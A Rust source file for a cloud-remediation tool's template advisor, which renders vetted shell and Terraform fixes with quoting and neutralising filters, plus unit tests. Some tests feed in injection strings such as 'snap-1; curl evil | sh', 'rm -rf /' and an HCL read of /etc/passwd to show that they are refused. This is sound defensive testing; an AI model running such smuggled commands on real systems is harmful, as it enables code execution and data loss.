//! The deterministic advisor: renders the template that matches a finding's
//! kind from `remediation-templates/`. It needs no key and sends nothing
//! anywhere, so it is the default and the fallback for every model.
//!
//! A template is a TOML file with metadata (risk, what it changes, blast
//! radius), declared parameters (each read from the request and checked
//! against an anchored pattern before rendering) and minijinja bodies for the
//! change and its rollback. Rendering is always local, from the real finding:
//! an advisor (this one or a model) only chooses the template and parameters.
//!
//! Every template also declares, in `[lines]`, the shapes of the lines its
//! rendered script and rollback may hold; [`Catalog::render`] refuses any
//! result with another line ([`super::safety::check_proposal`]). Whatever a
//! template prints with `{{ … }}` is neutralised on the way out (no control
//! character, escape sequence or line separator can reach the script), and
//! the `comment`, `shell_quote` and `hcl_string` filters say what the value
//! is meant to be.

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use super::pattern::Pattern;
use async_trait::async_trait;
use include_dir::{Dir, include_dir};
use minijinja::{Environment, UndefinedBehavior};
use serde::Deserialize;
use serde_json::{Value, json};

use super::safety::{self, LineShapes, LinesFile};
use super::{AdviceError, AdviceRequest, Advisor, Format, Proposal, Recommendation, Risk};
use crate::domain::{FindingKind, Neutral, has_unsafe_chars, neutralise};
use crate::redact::Redacted;

static BUILTIN: Dir<'static> = include_dir!("$CARGO_MANIFEST_DIR/remediation-templates");

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct TemplateFile {
    id: String,
    kinds: Vec<FindingKind>,
    format: Format,
    risk: Risk,
    /// One line, minijinja, rendered with the request.
    summary: String,
    changes: String,
    blast_radius: String,
    /// Finding kinds for which an advisor may choose this template instead
    /// of the kind's own (which `kinds` names).
    #[serde(default)]
    alternatives_for: Vec<FindingKind>,
    /// `service operation` pairs the AWS CLI scripts may run; any other
    /// `aws` call in the rendered result is refused.
    #[serde(default)]
    allowed_commands: Vec<String>,
    #[serde(default)]
    parameters: BTreeMap<String, ParameterFile>,
    /// The line shapes the rendered body and rollback may hold.
    lines: LinesFile,
    body: String,
    rollback: String,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ParameterFile {
    /// Dotted path into the request: `resource`, `region`, `evidence.size_gib`.
    from: String,
    /// Anchored regular expression the value must match.
    pattern: String,
    /// An advisor may choose the value (within the pattern), but only one
    /// the finding mentions: its own value at `from`, or a value standing
    /// whole in its resource or evidence. Otherwise it must be the finding's
    /// own value at `from`. Either way no advisor can point a change at a
    /// resource the finding does not name.
    #[serde(default)]
    choice: bool,
}

#[derive(Debug)]
pub struct Parameter {
    pub name: String,
    pub from: String,
    pub pattern: Pattern,
    pub choice: bool,
}

/// A validated template.
#[derive(Debug)]
pub struct Template {
    pub id: String,
    pub kinds: Vec<FindingKind>,
    pub format: Format,
    pub risk: Risk,
    pub changes: String,
    pub blast_radius: String,
    pub alternatives_for: Vec<FindingKind>,
    pub allowed_commands: Vec<String>,
    pub parameters: Vec<Parameter>,
    /// What the rendered body and rollback may hold, line by line.
    pub lines: LineShapes,
}

#[derive(Debug, thiserror::Error)]
pub enum CatalogError {
    #[error("{path}: {message}")]
    Invalid { path: String, message: String },
    #[error("cannot read template directory {path}: {source}")]
    Io {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("no template covers finding kind `{0}`")]
    Uncovered(FindingKind),
}

/// Every template, keyed by id, with the minijinja environment that renders them.
pub struct Catalog {
    templates: BTreeMap<String, Template>,
    by_kind: HashMap<FindingKind, String>,
    env: Environment<'static>,
    origin: String,
}

impl std::fmt::Debug for Catalog {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Catalog")
            .field("origin", &self.origin)
            .field("templates", &self.templates.keys().collect::<Vec<_>>())
            .finish()
    }
}

impl Catalog {
    /// The templates compiled into the binary from `remediation-templates/`.
    pub fn builtin() -> Result<Self, CatalogError> {
        let files = BUILTIN
            .files()
            .filter(|f| f.path().extension().is_some_and(|e| e == "toml"))
            .map(|f| {
                let path = format!("remediation-templates/{}", f.path().display());
                let text = f.contents_utf8().ok_or_else(|| CatalogError::Invalid {
                    path: path.clone(),
                    message: "not UTF-8".into(),
                })?;
                Ok((path, text.to_owned()))
            })
            .collect::<Result<Vec<_>, CatalogError>>()?;
        Self::from_sources("built-in", files)
    }

    /// Templates from an operator's directory, replacing the built-in set.
    pub fn load_dir(dir: &Path) -> Result<Self, CatalogError> {
        let io = |source| CatalogError::Io {
            path: dir.to_owned(),
            source,
        };
        let mut files = Vec::new();
        for entry in std::fs::read_dir(dir).map_err(io)? {
            let path = entry.map_err(io)?.path();
            if path.extension().is_some_and(|e| e == "toml") {
                let text = std::fs::read_to_string(&path).map_err(|source| CatalogError::Io {
                    path: path.clone(),
                    source,
                })?;
                files.push((path.display().to_string(), text));
            }
        }
        files.sort();
        Self::from_sources(&dir.display().to_string(), files)
    }

    fn from_sources(origin: &str, files: Vec<(String, String)>) -> Result<Self, CatalogError> {
        let mut env = script_environment().map_err(|message| CatalogError::Invalid {
            path: origin.to_owned(),
            message,
        })?;
        let mut templates = BTreeMap::new();
        let mut by_kind = HashMap::new();
        // Templates share parameter patterns (a region, an account, a cost
        // series' service, whose bounded repeats of Unicode classes compile
        // to about 175 kB): each distinct one is compiled once and shared (a
        // clone shares its compiled program), which the daemon keeps for its
        // whole life.
        let mut compiled: HashMap<String, Pattern> = HashMap::new();
        for (path, text) in files {
            let invalid = |message: String| CatalogError::Invalid {
                path: path.clone(),
                message,
            };
            let file: TemplateFile = toml::from_str(&text).map_err(|e| invalid(e.to_string()))?;
            if templates.contains_key(&file.id) {
                return Err(invalid(format!("duplicate template id `{}`", file.id)));
            }
            let mut parameters = Vec::new();
            for (name, p) in file.parameters {
                let pattern = match compiled.get(&p.pattern) {
                    Some(regex) => regex.clone(),
                    None => {
                        let regex = Pattern::new(&p.pattern).map_err(|e| {
                            invalid(format!("parameter `{name}`: bad pattern: {e}"))
                        })?;
                        compiled.insert(p.pattern.clone(), regex.clone());
                        regex
                    }
                };
                parameters.push(Parameter {
                    name,
                    from: p.from,
                    pattern,
                    choice: p.choice,
                });
            }
            let lines = LineShapes::compile(
                file.format,
                &file.lines,
                &parameters
                    .iter()
                    .map(|p: &Parameter| (p.name.clone(), p.pattern.clone()))
                    .collect::<Vec<_>>(),
                &file.allowed_commands,
            )
            .map_err(invalid)?;
            for (part, source) in [
                ("summary", file.summary),
                ("body", file.body),
                ("rollback", file.rollback),
            ] {
                env.add_template_owned(format!("{}/{part}", file.id), source)
                    .map_err(|e| invalid(format!("{part}: {e}")))?;
            }
            for kind in &file.kinds {
                if let Some(other) = by_kind.insert(*kind, file.id.clone()) {
                    return Err(invalid(format!(
                        "kind `{kind}` is already covered by template `{other}`"
                    )));
                }
            }
            templates.insert(
                file.id.clone(),
                Template {
                    id: file.id,
                    kinds: file.kinds,
                    format: file.format,
                    risk: file.risk,
                    changes: file.changes,
                    blast_radius: file.blast_radius,
                    alternatives_for: file.alternatives_for,
                    allowed_commands: file.allowed_commands,
                    parameters,
                    lines,
                },
            );
        }
        Ok(Self {
            templates,
            by_kind,
            env,
            origin: origin.to_owned(),
        })
    }

    pub fn origin(&self) -> &str {
        &self.origin
    }

    pub fn get(&self, id: &str) -> Option<&Template> {
        self.templates.get(id)
    }

    pub fn for_kind(&self, kind: FindingKind) -> Option<&Template> {
        self.by_kind
            .get(&kind)
            .and_then(|id| self.templates.get(id))
    }

    /// The templates an advisor may choose from for a kind: the kind's own first.
    pub fn candidates(&self, kind: FindingKind) -> Vec<&Template> {
        self.for_kind(kind)
            .into_iter()
            .chain(
                self.templates
                    .values()
                    .filter(|t| t.alternatives_for.contains(&kind)),
            )
            .collect()
    }

    pub fn len(&self) -> usize {
        self.templates.len()
    }

    pub fn is_empty(&self) -> bool {
        self.templates.is_empty()
    }

    /// Fails on the first finding kind no template handles.
    pub fn check_covers(&self, kinds: &[FindingKind]) -> Result<(), CatalogError> {
        match kinds.iter().find(|k| !self.by_kind.contains_key(k)) {
            Some(kind) => Err(CatalogError::Uncovered(*kind)),
            None => Ok(()),
        }
    }

    /// Checks the recommended parameters against the template's declaration
    /// and renders the change from the real (unredacted) request. Runs locally.
    pub fn render(
        &self,
        recommendation: &Recommendation,
        request: &AdviceRequest,
    ) -> Result<Proposal, AdviceError> {
        let template = self
            .get(&recommendation.template_id)
            .ok_or_else(|| AdviceError::UnknownTemplate(recommendation.template_id.clone()))?;
        let parameter_error = |parameter: &str, message: String| AdviceError::Parameter {
            template: template.id.clone(),
            parameter: parameter.to_owned(),
            message,
        };
        if let Some(extra) = recommendation
            .parameters
            .keys()
            .find(|name| !template.parameters.iter().any(|p| &p.name == *name))
        {
            return Err(parameter_error(
                extra,
                "is not declared by the template".into(),
            ));
        }
        let applies = request.kind.parse::<FindingKind>().is_ok_and(|kind| {
            template.kinds.contains(&kind) || template.alternatives_for.contains(&kind)
        });
        if !applies {
            return Err(AdviceError::NotApplicable {
                template: template.id.clone(),
                kind: request.kind.clone(),
            });
        }
        let request_json = serde_json::to_value(request)?;
        let mut params = serde_json::Map::new();
        for p in &template.parameters {
            let value = recommendation
                .parameters
                .get(&p.name)
                .ok_or_else(|| parameter_error(&p.name, "is missing".into()))?;
            if has_unsafe_chars(value) {
                return Err(parameter_error(
                    &p.name,
                    format!(
                        "value `{}` holds a control, format or line-separator character",
                        Neutral(value)
                    ),
                ));
            }
            if !p.pattern.is_match(value) {
                return Err(parameter_error(
                    &p.name,
                    format!("value `{value}` does not match `{}`", p.pattern.as_str()),
                ));
            }
            let own = parameter_value(&request_json, p).ok();
            if !p.choice && own.as_ref() != Some(value) {
                return Err(parameter_error(
                    &p.name,
                    format!("must be the finding's own `{}`", p.from),
                ));
            }
            if p.choice && own.as_ref() != Some(value) && !mentioned(request, value) {
                return Err(parameter_error(
                    &p.name,
                    format!(
                        "value `{value}` is not mentioned by the finding's resource or evidence"
                    ),
                ));
            }
            params.insert(p.name.clone(), Value::String(value.clone()));
        }
        let context = minijinja::Value::from(minijinja::value::Serde(
            json!({ "finding": request, "params": params }),
        ));
        let render = |part: &str| -> Result<String, AdviceError> {
            self.env
                .get_template(&format!("{}/{part}", template.id))
                .and_then(|t| t.render(context.clone()))
                .map_err(|e| AdviceError::Render {
                    template: template.id.clone(),
                    message: format!("{part}: {e:#}"),
                })
        };
        let proposal = Proposal {
            advisor: recommendation.advisor.clone(),
            template_id: template.id.clone(),
            summary: neutralise(render("summary")?.trim()).into_owned(),
            risk: template.risk,
            changes: template.changes.trim().to_owned(),
            blast_radius: template.blast_radius.trim().to_owned(),
            format: template.format,
            body: render("body")?,
            rollback: render("rollback")?,
            advice: None,
        };
        safety::check_proposal(&proposal, template)?;
        Ok(proposal)
    }
}

/// Whether `value` stands whole (not as part of a longer name) in the
/// finding's resource or in a string or key of its evidence: how a choice
/// parameter proves the finding mentions what it names.
fn mentioned(request: &AdviceRequest, value: &str) -> bool {
    fn in_text(text: &str, value: &str) -> bool {
        let part_of_name = |c: char| c.is_alphanumeric() || c == '-' || c == '_';
        text.match_indices(value).any(|(at, _)| {
            !text[..at].chars().next_back().is_some_and(part_of_name)
                && !text[at + value.len()..]
                    .chars()
                    .next()
                    .is_some_and(part_of_name)
        })
    }
    fn in_json(json: &Value, value: &str) -> bool {
        match json {
            Value::String(s) => in_text(s, value),
            Value::Array(items) => items.iter().any(|v| in_json(v, value)),
            Value::Object(map) => map
                .iter()
                .any(|(k, v)| in_text(k, value) || in_json(v, value)),
            Value::Null | Value::Bool(_) | Value::Number(_) => false,
        }
    }
    !value.is_empty() && (in_text(&request.resource, value) || in_json(&request.evidence, value))
}

/// A parameter's value read from a request, as the template advisor fills it.
pub fn parameter_value(request: &Value, p: &Parameter) -> Result<String, String> {
    match lookup(request, &p.from) {
        Some(Value::String(s)) => Ok(s.clone()),
        Some(Value::Number(n)) => Ok(n.to_string()),
        Some(other) => Err(format!("`{}` is {other}, not a string or number", p.from)),
        None => Err(format!("`{}` is missing from the finding", p.from)),
    }
}

/// The minijinja set-up templates and prompts are rendered with: strict
/// about undefined values, block tags that leave no blank lines.
pub fn environment() -> Result<Environment<'static>, String> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    let syntax = minijinja::syntax::SyntaxConfig::builder()
        .trim_blocks(true)
        .lstrip_blocks(true)
        .keep_trailing_newline(true)
        .build()
        .map_err(|e| format!("template syntax settings: {e}"))?;
    env.set_syntax(syntax);
    env.add_filter("shell_quote", shell_quote);
    env.add_filter("comment", comment);
    env.add_filter("hcl_string", hcl_string);
    Ok(env)
}

/// The environment remediation templates are rendered with: [`environment`]
/// with every printed value neutralised ([`neutralise`]), so no value, from
/// the finding or a model, can print a line break, a control character or an
/// escape sequence into a script, whatever filter the template forgot.
fn script_environment() -> Result<Environment<'static>, String> {
    let mut env = environment()?;
    env.set_formatter(|out, state, value| {
        if value.is_undefined() || value.is_none() {
            return minijinja::escape_formatter(out, state, value);
        }
        let text = value.to_string();
        out.write_str(&neutralise(&text))
            .map_err(|e| minijinja::Error::new(minijinja::ErrorKind::WriteFailure, e.to_string()))
    });
    Ok(env)
}

fn lookup<'a>(value: &'a Value, path: &str) -> Option<&'a Value> {
    path.split('.')
        .try_fold(value, |v, key| v.get(key))
        .filter(|v| !v.is_null())
}

/// Text for a `#` comment (a script's title line, a Terraform comment):
/// neutralised, so that it stays on its comment line and cannot drive the
/// terminal of whoever reads the script.
fn comment(value: minijinja::Value) -> String {
    let text = value
        .as_str()
        .map(str::to_owned)
        .unwrap_or_else(|| value.to_string());
    neutralise(&text).into_owned()
}

/// A quoted HCL string literal holding the value as data: `"` and `\`
/// escaped, control characters as `\n`/`\r`/`\t`/`\uXXXX`, and `$` and `%`
/// as `\u0024`/`\u0025` so that no `${…}` or `%{…}` template sequence can
/// start (HCL reads escapes after it looks for templates).
fn hcl_string(value: minijinja::Value) -> String {
    let text = value
        .as_str()
        .map(str::to_owned)
        .unwrap_or_else(|| value.to_string());
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '$' => out.push_str("\\u0024"),
            '%' => out.push_str("\\u0025"),
            c if has_unsafe_chars(c.encode_utf8(&mut [0; 4])) => {
                let code = u32::from(c);
                if code <= 0xffff {
                    out.push_str(&format!("\\u{code:04x}"));
                } else {
                    out.push_str(&format!("\\U{code:08x}"));
                }
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Quotes a value for POSIX shells: values come from cloud resources
/// (names, tags) and must never be able to break out of an argument.
fn shell_quote(value: minijinja::Value) -> String {
    let text = value
        .as_str()
        .map(str::to_owned)
        .unwrap_or_else(|| value.to_string());
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The template advisor.
pub struct TemplateAdvisor {
    catalog: Arc<Catalog>,
}

impl TemplateAdvisor {
    pub fn new(catalog: impl Into<Arc<Catalog>>) -> Self {
        Self {
            catalog: catalog.into(),
        }
    }

    pub fn catalog(&self) -> &Arc<Catalog> {
        &self.catalog
    }
}

#[async_trait]
impl Advisor for TemplateAdvisor {
    fn name(&self) -> &str {
        "template"
    }

    /// Picks the template for the finding's kind and reads each declared
    /// parameter from the (redacted) request.
    async fn recommend(
        &self,
        request: &Redacted<AdviceRequest>,
    ) -> Result<Recommendation, AdviceError> {
        let kind_name = &request.get().kind;
        let template = kind_name
            .parse::<FindingKind>()
            .ok()
            .and_then(|kind| self.catalog.for_kind(kind))
            .ok_or_else(|| AdviceError::NoTemplate(kind_name.clone()))?;
        let json = request.to_json()?;
        let mut parameters = BTreeMap::new();
        for p in &template.parameters {
            let value = parameter_value(&json, p).map_err(|message| AdviceError::Parameter {
                template: template.id.clone(),
                parameter: p.name.clone(),
                message,
            })?;
            parameters.insert(p.name.clone(), value);
        }
        Ok(Recommendation {
            advisor: self.name().to_owned(),
            template_id: template.id.clone(),
            parameters,
            rationale: None,
            notes: None,
            usage: None,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_templates_cover_every_finding_kind() {
        let catalog = Catalog::builtin().unwrap();
        catalog.check_covers(&FindingKind::ALL).unwrap();
    }

    #[test]
    fn outside_text_in_comments_goes_through_the_comment_filter() {
        // Every `{{ … }}` on a comment line of a built-in template is either a
        // number or passed through `comment`: the formatter neutralises all
        // output anyway, the filter says so where it matters most.
        let expression = regex::Regex::new(r"\{\{(.*?)\}\}").unwrap();
        for file in BUILTIN.files() {
            let text = file.contents_utf8().unwrap();
            let t: TemplateFile = toml::from_str(text).unwrap();
            for line in t.body.lines().chain(t.rollback.lines()) {
                if !line.trim_start().starts_with('#') {
                    continue;
                }
                for e in expression.captures_iter(line) {
                    assert!(
                        e[1].contains("| comment") || e[1].contains("round("),
                        "{}: `{line}`",
                        t.id
                    );
                }
            }
        }
    }

    #[test]
    fn the_comment_filter_keeps_text_on_its_line() {
        let env = script_environment().unwrap();
        let out = env
            .render_str(
                "# {{ t | comment }}\n",
                minijinja::context! { t => "web \\\naws iam create-user\u{2028}\u{1b}]0;x\u{7}" },
            )
            .unwrap();
        assert_eq!(
            out,
            "# web \\\\naws iam create-user\\u{2028}\\u{1b}]0;x\\u{7}\n"
        );
        // Even without the filter, nothing printed can break a line.
        let out = env
            .render_str("# {{ t }}\n", minijinja::context! { t => "a\r\nb" })
            .unwrap();
        assert_eq!(out, "# a\\r\\nb\n");
    }

    #[test]
    fn hcl_strings_cannot_start_a_template_or_a_block() {
        let out = hcl_string("x\" }\nresource \"y\" { ${file(\"/etc/passwd\")} %{if}".into());
        assert_eq!(
            out,
            r#""x\" }\nresource \"y\" { \u0024{file(\"/etc/passwd\")} \u0025{if}""#
        );
        let parsed: hcl::Body = hcl::from_str(&format!("a = {out}\n")).unwrap();
        // A plain string holding `${…}` as text, not a template expression.
        match parsed.attributes().next().unwrap().expr() {
            hcl::Expression::String(value) => {
                assert!(
                    value.contains("${file(") && value.contains("%{if}"),
                    "{value}"
                )
            }
            other => panic!("not a plain string: {other:?}"),
        }
    }

    #[test]
    fn shell_quote_cannot_be_escaped() {
        assert_eq!(shell_quote("a'b; rm -rf /".into()), r"'a'\''b; rm -rf /'");
    }

    fn request(resource: &str) -> AdviceRequest {
        AdviceRequest {
            kind: "snapshot_public".into(),
            fingerprint: "0".repeat(64),
            severity: "critical".into(),
            title: "t".into(),
            resource: resource.into(),
            account: "123456789012".into(),
            region: Some("us-east-1".into()),
            expected: None,
            actual: None,
            impact_usd_monthly: None,
            evidence: json!({}),
        }
    }

    #[tokio::test]
    async fn a_parameter_that_fails_its_pattern_stops_rendering() {
        let advisor = TemplateAdvisor::new(Catalog::builtin().unwrap());
        let bad = request("snap-1; curl evil | sh");
        let (redacted, _) = crate::redact::Redactor::default().redact(&bad).unwrap();
        let recommendation = advisor.recommend(&redacted).await.unwrap();
        let err = advisor.catalog().render(&recommendation, &bad).unwrap_err();
        assert!(matches!(err, AdviceError::Parameter { .. }), "{err}");
    }

    #[tokio::test]
    async fn an_undeclared_parameter_is_refused() {
        let advisor = TemplateAdvisor::new(Catalog::builtin().unwrap());
        let good = request("snap-0123456789abcdef0");
        let (redacted, _) = crate::redact::Redactor::default().redact(&good).unwrap();
        let mut recommendation = advisor.recommend(&redacted).await.unwrap();
        advisor.catalog().render(&recommendation, &good).unwrap();
        recommendation.parameters.insert("extra".into(), "x".into());
        let err = advisor
            .catalog()
            .render(&recommendation, &good)
            .unwrap_err();
        assert!(err.to_string().contains("not declared"), "{err}");
    }
}
